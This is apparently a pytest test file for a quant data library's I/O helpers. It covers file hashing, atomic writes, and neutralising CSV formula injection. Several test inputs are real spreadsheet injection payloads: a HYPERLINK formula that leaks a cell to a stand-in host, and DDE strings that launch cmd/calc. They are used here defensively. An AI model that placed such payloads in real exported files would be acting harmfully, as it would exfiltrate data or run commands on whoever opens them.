from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from quant import io


def test_sha256_file_matches_hashlib(tmp_path: Path) -> None:
    data = b"quantdesk" * 300_000  # spans several 1 MiB chunks
    path = tmp_path / "blob"
    path.write_bytes(data)
    assert io.sha256_file(path) == hashlib.sha256(data).hexdigest()


def test_atomic_write_replaces_and_leaves_no_temp(tmp_path: Path) -> None:
    target = tmp_path / "sub" / "file.json"
    io.atomic_write_text(target, "one")
    io.atomic_write_text(target, "two")
    assert target.read_text() == "two"
    assert [p.name for p in target.parent.iterdir()] == ["file.json"]


def test_failed_validation_keeps_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "file.txt"
    io.atomic_write_text(target, "good")

    def reject(tmp: Path) -> None:
        assert tmp.read_text() == "bad"
        raise ValueError("invalid content")

    with pytest.raises(ValueError, match="invalid content"):
        io.atomic_write_text(target, "bad", validate=reject)
    assert target.read_text() == "good"
    assert [p.name for p in tmp_path.iterdir()] == ["file.txt"]


def test_writer_that_crashes_leaves_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "file.txt"
    io.atomic_write_text(target, "good")

    def crash(tmp: Path) -> None:
        tmp.write_text("partial")
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        io.atomic_write(target, crash)
    assert target.read_text() == "good"
    assert len(list(tmp_path.iterdir())) == 1


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),  # a number written as text stays a number
        ("+3e-05", "+3e-05"),
        ("momentum_12_1", "momentum_12_1"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_safe_neutralises_formulas_and_keeps_numbers(cell: object, expected: object) -> None:
    assert io.csv_safe(cell) == expected


def test_csv_safe_frame_only_touches_string_columns() -> None:
    import polars as pl

    frame = pl.DataFrame({"symbol": ["=cmd()", "AAPL", "-1.25", "@x", None], "ret": [-0.5, 0.1, -2.0, 0.0, -1e-3]})
    out = io.csv_safe_frame(frame)
    assert out["symbol"].to_list() == ["'=cmd()", "AAPL", "-1.25", "'@x", None]
    assert out["ret"].to_list() == frame["ret"].to_list() and out.schema == frame.schema


def test_csv_lines_writes_safe_cells() -> None:
    import csv as csv_module

    text = "".join(io.csv_lines([["a", "b"], ["=1+1", -2.5], ["ok", "@me"]]))
    assert list(csv_module.reader(text.splitlines())) == [["a", "b"], ["'=1+1", "-2.5"], ["ok", "'@me"]]
